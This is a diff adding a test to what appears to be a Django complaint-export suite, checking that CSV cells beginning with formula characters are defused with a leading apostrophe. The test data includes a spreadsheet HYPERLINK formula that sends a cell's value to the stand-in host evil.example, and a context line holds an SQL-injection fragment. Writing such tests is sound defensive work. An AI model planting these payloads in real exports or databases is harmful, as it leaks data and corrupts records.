@@ -540,3 +540,31 @@ def test_copy_statement_binds_filter_values_as_literals(department):
     assert "'x''); DROP TABLE" in statement
     by_copy, in_python = _both(Complaint.objects.filter(subject=hostile), "csv", False)
     assert by_copy == in_python and hostile.encode() in by_copy
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_defused(reader, department):
+    """CSV injection: free text starting with = + - @ gets a leading apostrophe in CSV
+    (both the COPY and the Python path); JSON Lines keeps the exact text."""
+    customer = Customer.objects.create(name="@SUM(1+1)*cmd", phone="+8613812345678")
+    complaint = make_complaint(
+        department=department,
+        customer=customer,
+        subject='=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        description="-2+3",
+        received_at=NOW - timedelta(days=1),
+    )
+    (row,) = [
+        r
+        for r in csv_rows(reader.get(EXPORT, {"format": "csv"}))
+        if r["reference"] == complaint.reference
+    ]
+    assert row["subject"] == "'" + complaint.subject
+    assert row["description"] == "'-2+3"
+    assert row["customer_name"].startswith("'@")
+    assert row["customer_phone"].startswith("+86")  # normalised digits, left alone
+    (line,) = [
+        r
+        for r in jsonl_rows(reader.get(EXPORT, {"format": "jsonl"}))
+        if r["reference"] == complaint.reference
+    ]
+    assert line["subject"] == complaint.subject and line["description"] == "-2+3"
